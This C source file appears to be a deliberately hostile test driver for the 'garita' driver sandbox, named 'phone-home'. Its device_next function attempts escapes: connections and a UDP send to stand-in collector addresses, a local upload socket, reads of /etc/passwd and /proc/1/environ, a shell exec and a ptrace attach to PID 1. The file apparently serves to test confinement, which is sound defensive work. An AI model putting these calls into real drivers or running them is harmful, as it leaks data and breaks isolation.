/* A driver that tries to leave its box in every way that a person would think of first. See README.md. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include "garita/garita.h"

static garita_text text(const char* words) {
  garita_text own = {words, (uint32_t)strlen(words), 0};
  return own;
}

static struct sockaddr_in address_of(const char* number, uint16_t port) {
  struct sockaddr_in address;
  memset(&address, 0, sizeof(address));
  address.sin_family = AF_INET;
  address.sin_port = htons(port);
  inet_pton(AF_INET, number, &address.sin_addr);
  return address;
}

static void over_the_network(void) {
  const struct sockaddr_in server = address_of("203.0.113.9", 443),
                           collector = address_of("198.51.100.7", 9999);
  const struct sockaddr_un local = {AF_UNIX, "/run/upload.sock"};
  struct addrinfo* found = NULL;
  connect(socket(AF_INET, SOCK_STREAM, 0), (const struct sockaddr*)&server, sizeof(server));
  sendto(socket(AF_INET, SOCK_DGRAM, 0), "pixels", 6, 0, (const struct sockaddr*)&collector,
         sizeof(collector));
  connect(socket(AF_UNIX, SOCK_STREAM, 0), (const struct sockaddr*)&local, sizeof(local));
  getaddrinfo("telemetry.vendor.example", "443", NULL, &found);
}

static void over_the_machine(void) {
  char program[] = "/bin/sh";
  char* const arguments[] = {program, NULL};
  (void)!open("/etc/passwd", O_RDONLY);
  (void)!open("/tmp/cargo.bin", O_WRONLY | O_CREAT, 0600);
  (void)!open("/proc/1/environ", O_RDONLY);
  execve(program, arguments, NULL);
  ptrace(PTRACE_ATTACH, 1, NULL, NULL);
  syscall(SYS_io_uring_setup, 8, NULL);
}

static garita_status GARITA_CALL device_next(uint64_t device, uint64_t deadline_ns, garita_event* event,
                                             garita_error* error) {
  (void)device, (void)deadline_ns, (void)event, (void)error;
  over_the_network();
  over_the_machine();
  return GARITA_END;
}

static garita_status GARITA_CALL device_cancel(uint64_t device) { return (void)device, GARITA_OK; }

static garita_status GARITA_CALL device_close(uint64_t device, uint64_t deadline_ns, garita_error* error) {
  return (void)device, (void)deadline_ns, (void)error, GARITA_OK;
}

static garita_status GARITA_CALL device_extension(uint64_t device, garita_text id, const void** table,
                                                  garita_error* error) {
  return (void)device, (void)id, (void)table, (void)error, GARITA_NOT_SUPPORTED;
}

static const garita_device_api device_api = {sizeof(device_api), 0, device_next, device_cancel, device_close,
                                             device_extension};

static garita_status GARITA_CALL driver_describe(garita_description* description, garita_error* error) {
  static garita_text models[1], capabilities[1];
  (void)error;
  models[0] = text("M1");
  capabilities[0] = text("shape.scan");
  description->id = text("org.garita.phone-home");
  description->version = text("1.0.0");
  description->models.data = models;
  description->capabilities.data = capabilities;
  description->models.count = description->capabilities.count = 1;
  description->models.element_size_bytes = description->capabilities.element_size_bytes = sizeof(garita_text);
  return GARITA_OK;
}

static garita_status GARITA_CALL driver_open(const garita_open* open, garita_device* device,
                                             garita_error* error) {
  (void)open, (void)error;
  device->handle = 1;
  device->api = &device_api;
  return GARITA_OK;
}

static const garita_driver_api driver_api = {sizeof(driver_api), 0, driver_describe, driver_open};

GARITA_EXPORT garita_status GARITA_CALL garita_driver_entry(const garita_negotiation* negotiation,
                                                            garita_answer* answer, garita_error* error) {
  (void)error;
  if (negotiation->abi_min > GARITA_ABI_1_0 || negotiation->abi_max < GARITA_ABI_1_0)
    return GARITA_VERSION_MISMATCH;
  answer->abi = GARITA_ABI_1_0;
  answer->api = &driver_api;
  return GARITA_OK;
}
